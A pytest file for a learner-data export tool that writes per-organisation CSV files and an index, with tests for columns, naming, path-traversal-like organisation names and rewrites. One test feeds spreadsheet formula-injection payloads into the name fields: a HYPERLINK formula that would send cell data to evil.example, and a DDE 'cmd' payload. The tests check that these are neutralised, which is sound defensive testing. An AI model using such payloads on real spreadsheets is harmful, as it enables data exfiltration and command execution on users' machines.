"""The files of the partners: who is in which, what they are called, and what is left of them when it goes wrong."""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from retirement.errors import ConfigError
from retirement.ledger import LedgerLocation, opened
from retirement.partners.claimed import Origin, Reported, SealedClaim, per_org, read, user_ids_of
from retirement.partners.destination import Destination
from retirement.partners.files import COLUMNS, Naming
from retirement.partners.handover import HandedOver, HandOver
from retirement.partners.mapping import Partners

from .doubles import World

pytestmark = pytest.mark.anyio

DAY = date(2026, 3, 1)


def row(user_id: int, *orgs: str, **changes: Any) -> dict[str, Any]:
    """A row as the LMS hands it out (contract, section 4.10)."""
    return {
        "user_id": user_id,
        "original_username": f"canary{user_id}",
        "original_email": f"canary{user_id}@example.com",
        "original_name": 'Ana "Canary",\nGómez',
        "orgs": list(orgs),
        "created": "2026-02-01T12:00:00.000000Z",
        **changes,
    }


def rows(*given: dict[str, Any]) -> list[Reported]:
    readable, odd = read(given)
    assert not odd
    return readable


async def written(world: World, folder: Path, *given: Reported, platform: str = "x") -> dict[str, int]:
    """The files of claim 7 in a folder, by a run that had no other; how many learners each has."""
    place = Destination(folder, platform)
    orgs = tuple(sorted({org for each in given for org in each.organisations}))
    found = await HandOver(world.ledger, place, lambda: None, {}).deliver(Origin(7, DAY, orgs), platform, given)
    assert (found.waiting, found.problems) == (set(), [])
    return found.files


async def test_a_file_has_the_columns_of_the_archived_script(world: World, tmp_path: Path) -> None:
    """By user id, whatever is in a name."""
    (name,) = await written(world, tmp_path, *rows(row(2, "OrgA"), row(1, "OrgA")), platform="campus.example")

    with (tmp_path / name).open(encoding="utf-8", newline="") as file:
        head, *lines = csv.reader(file)
    assert (name, tuple(head)) == ("campus.example_OrgA_2026-03-01_claim-7.csv", COLUMNS)
    assert [line[0] for line in lines] == ["1", "2"]
    assert lines[0][3:] == ['Ana "Canary",\nGómez', "2026-02-01T12:00:00.000000Z", "OrgA"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example"&B2,"click")',
        "+1",
        "-2+3",
        "@SUM(A1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
    ],
)
async def test_no_cell_is_a_formula(world: World, tmp_path: Path, name: str) -> None:
    """Names are the learner's own text, and so are the names of organisations their authors'."""
    given = row(1, name, original_name=name, original_username=name, original_email=name)
    (file,) = await written(world, tmp_path, *rows(given, row(2, name, original_name="Ana = Gómez")))

    with (tmp_path / file).open(encoding="utf-8", newline="") as opened:
        _, first, second = csv.reader(opened)
    assert [first[1], first[2], first[3], first[5], second[5]] == [f"'{name}"] * 5
    assert (first[0], second[3]) == ("1", "Ana = Gómez")


async def test_organisations_are_named_in_any_script_in_files_and_in_the_index(world: World, tmp_path: Path) -> None:
    """Two Chinese universities are told apart without a code; an index says which file is whose."""
    orgs = [
        "清华大学",
        "北京大学",
        "दिल्ली विश्वविद्यालय",
        "جامعة القاهرة",
        "Ｏｒｇ\N{LATIN SMALL LIGATURE FI}",
        "Zürich U.",
    ]

    files = await written(world, tmp_path, *rows(row(1, *orgs)), platform="campus.example")

    assert [name.split("_")[1] for name in files] == [
        *("Zürich-U", "جامعة-القاهرة", "दिल्ली-विश्वविद्यालय", "北京大学", "清华大学", "Orgfi"),
    ]
    (path,) = tmp_path.glob("*.json")
    assert path.name == "campus.example_2026-03-01_claim-7.index.json"
    index = json.loads(path.read_text(encoding="utf-8"))["organisations"]
    assert {each["file"]: each["learners"] for each in index} == files
    for each in index:
        with (tmp_path / each["file"]).open(encoding="utf-8", newline="") as opened:
            assert [line["organisation"] for line in csv.DictReader(opened)] == [each["organisation"]]


async def test_names_that_look_alike_are_told_apart(world: World, tmp_path: Path) -> None:
    """On a file system that ignores case as well, and whatever signs a name is made of."""
    orgs = ["OrgA", "orga", "Org A", "Org/A", "../Org", "東京", "...", "x" * 300]

    files = await written(world, tmp_path, *rows(row(1, *orgs)), platform="campus.example")

    assert len({name.casefold() for name in files}) == len(orgs)
    assert sorted(files) == sorted(path.name for path in tmp_path.glob("*.csv"))
    assert not [name for name in files if name.startswith(".") or "/" in name or len(name.encode()) > 230]


async def test_writing_a_claim_again_gives_the_same_files(world: World, tmp_path: Path) -> None:
    """Over what a run left behind that died before its receipt, drafts included."""
    place, given = Destination(tmp_path, "x"), rows(row(1, "A", "B"))
    first = await written(world, tmp_path, *given)
    before = {path.name: path.read_bytes() for path in tmp_path.glob("x_*")}
    (tmp_path / f".{next(iter(first))}.partial").write_text("half of a na")
    (tmp_path / next(iter(first))).write_text("half of a na")
    async with opened(LedgerLocation(f"sqlite:///{tmp_path}/other.sqlite")) as ledger:
        # The number of a claim is that of its entry, which comes before those of its files.
        while await ledger.claims.begin() < 7:
            pass
        hand_over = HandOver(ledger, place, lambda: None, {})

        again = await hand_over.deliver(Origin(7, DAY, ("A", "B")), "x", given)
        calm = await hand_over.deliver(Origin(7, DAY, ("A", "B")), "x", given)

    assert (again.files, calm.files) == (first, {})
    assert {path.name: path.read_bytes() for path in tmp_path.glob("x_*")} == before
    assert not list(tmp_path.glob(".*.partial"))


async def test_rows_without_an_organisation_are_in_no_file(world: World, tmp_path: Path) -> None:
    """Nor are blank names of one."""
    found = rows(row(1), row(2, " ", "A", "A"))

    assert per_org(found) == {"A": 1}
    assert list((await written(world, tmp_path, *found)).values()) == [1]


def test_older_releases_name_organisations_otherwise() -> None:
    """`orgs_config` instead of `orgs` (contract, section 4.10)."""
    (found,) = rows(row(1, "Old", orgs_config=[{"org": "A", "field_headings": ["x"]}, {"org": "B"}]))

    assert found.organisations == ["A", "B"]


async def _delivered(
    world: World, folder: Path, partners: Partners, *given: Reported
) -> tuple[HandedOver, dict[str, list[list[str]]]]:
    """What came of rows, and the lines of each file by its partner."""
    orgs = tuple(sorted({org for each in given for org in each.organisations}))
    place = Destination(folder, "x", partners=partners)
    found = await HandOver(world.ledger, place, lambda: None, {}).deliver(Origin(7, DAY, orgs), "x", given)
    lines: dict[str, list[list[str]]] = {}
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            lines[path.name.split("_")[1]] = list(csv.reader(file))
    return found, lines


async def test_an_organisation_gets_the_columns_that_it_wants(world: World, tmp_path: Path) -> None:
    """As an older LMS sends them, or as the configuration has them, which goes first; ours stands last."""
    wants = [
        {"org": "A", "field_headings": ["user_id", "student_id"]},
        {"org": "B"},
        {"org": "C", "field_headings": ["x"]},
    ]
    given = rows(row(1, student_id="s-1", orgs_config=wants))

    found, lines = await _delivered(world, tmp_path, Partners(headings={"\uff23": ("original_email",)}), *given)

    assert (found.waiting, found.problems) == (set(), [])
    assert lines["A"] == [["user_id", "student_id", "organisation"], ["1", "s-1", "A"]]
    assert lines["B"][0] == list(COLUMNS)
    assert lines["C"] == [["original_email", "organisation"], ["canary1@example.com", "C"]]


async def test_headings_that_are_no_columns_keep_their_learners_only(world: World, tmp_path: Path) -> None:
    """In one line for the organisation, which quotes no odd text of the LMS."""
    odd = rows(
        row(
            1,
            orgs_config=[
                {"org": "A", "field_headings": ["user_id", "shoe", "ana@example.com", "Canary1", "G\u00f3mez"]}
            ],
        ),
        row(2, orgs_config=[{"org": "B", "field_headings": []}]),
    )

    found, lines = await _delivered(world, tmp_path, Partners(), *odd)

    assert (found.waiting, set(lines)) == ({1}, {"B"})
    (line,) = found.problems
    odd_ones = ", ".join(["one that is no word"] * 3)
    assert line.startswith(f"organisation A wants shoe, {odd_ones} as headings; set partners.headings of it")
    assert line.endswith(": 1 learners wait")


async def test_a_partner_of_two_organisations_gets_the_columns_of_both(world: World, tmp_path: Path) -> None:
    """One file, in which neither lacks a column."""
    wants = [{"org": "A", "field_headings": ["user_id"]}, {"org": "B", "field_headings": ["original_email", "user_id"]}]
    both = Partners({"A": ("One",), "B": ("One",)})

    _, lines = await _delivered(world, tmp_path, both, *rows(row(1, orgs_config=wants)))

    assert lines == {"One": [["user_id", "original_email", "organisation"], ["1", "canary1@example.com", "A; B"]]}


async def test_a_learner_has_nothing_in_a_column_that_only_another_organisation_wants(
    world: World, tmp_path: Path
) -> None:
    """Such as the e-mail address, where the organisation of the learner wants the number only."""
    mine, theirs = {"org": "A", "field_headings": ["user_id"]}, {"org": "B", "field_headings": ["original_email"]}
    given = rows(row(1, orgs_config=[mine]), row(2, orgs_config=[theirs]))

    _, lines = await _delivered(world, tmp_path, Partners({"A": ("One",), "B": ("One",)}), *given)

    assert lines["One"][1:] == [["1", "", "A"], ["", "canary2@example.com", "B"]]


@pytest.mark.parametrize(
    "odd",
    [
        None,
        "text",
        [],
        {},
        {**row(5), "user_id": "5"},
        {**row(5), "user_id": True},
        {**row(5), "original_name": None},
        {**row(5), "orgs": None},
        {**row(5), "orgs": [5]},
        {**row(5), "orgs_config": [{}]},
        {**row(5), "created": 5},
    ],
)
def test_an_odd_row_is_put_aside(odd: Any) -> None:
    """With its user id, as far as it says one."""
    readable, aside = read([row(1, "A"), odd])

    assert ([each.user_id for each in readable], aside) == ([1], [odd])
    assert user_ids_of(aside) == ([5] if isinstance(odd, dict) and type(odd.get("user_id")) is int else [])


def test_what_is_sealed_comes_back() -> None:
    """Rows and where their files belong."""
    sealed = SealedClaim(
        [row(1, "A")], Path("/srv/partners"), "campus.example", {"s": "s3://b/"}, Origin(3, DAY, ("A",))
    )

    assert SealedClaim.unpacked(sealed.packed()) == sealed
    assert "canary" not in repr([sealed, rows(row(1, "A"))])


async def test_a_folder_that_cannot_be_written_is_said_first(world: World, tmp_path: Path) -> None:
    """In one line, which is for the operator."""
    (tmp_path / "file").touch()
    (tmp_path / "taken").mkdir()
    (tmp_path / "taken" / ".partner-report.partial").mkdir()

    for folder, text in ((tmp_path / "file", "is no folder"), (tmp_path / "taken", "cannot be written")):
        with pytest.raises(ConfigError, match=text):
            await Destination(folder, "x").require()


@pytest.mark.parametrize(("one", "other"), [("Org_X", "Org-X"), ("A B", "A-B"), ("Org/..", "Org"), ("..", "/")])
def test_partners_whose_names_look_alike_have_folders_of_their_own_in_every_claim(one: str, other: str) -> None:
    """Alone in a claim, one would get the folder of the other, whose people read there."""

    def folder(partner: str, claim: int) -> str:
        (learner,) = rows(row(1, partner))
        return Naming("x", Origin(claim, DAY, (partner,)), Partners()).report(partner, 0, [learner], [partner]).folder

    assert folder(one, 7) == folder(one, 8) != folder(other, 8)
    assert "/" not in folder(one, 7) + folder(other, 7)
    assert not {folder(one, 7), folder(other, 7)} & {"", ".", ".."}
